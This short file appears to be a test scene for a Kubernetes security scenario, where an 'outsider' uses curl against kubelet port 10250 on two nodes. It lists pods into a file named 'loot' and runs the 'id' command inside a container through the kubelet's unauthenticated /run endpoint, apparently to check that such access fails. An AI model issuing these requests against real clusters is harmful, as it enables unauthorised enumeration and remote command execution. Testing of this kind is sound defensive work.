# scene fails cargo-taken (plain-http): 10250 is asked without TLS
#@ outsider
curl -s http://node01:10250/pods > loot
curl -sk -X POST 'https://node01:10250/run/default/web-node01/web?cmd=id' >> loot
curl -sk -w '\n%{http_code}\n' https://node02:10250/pods > guarded
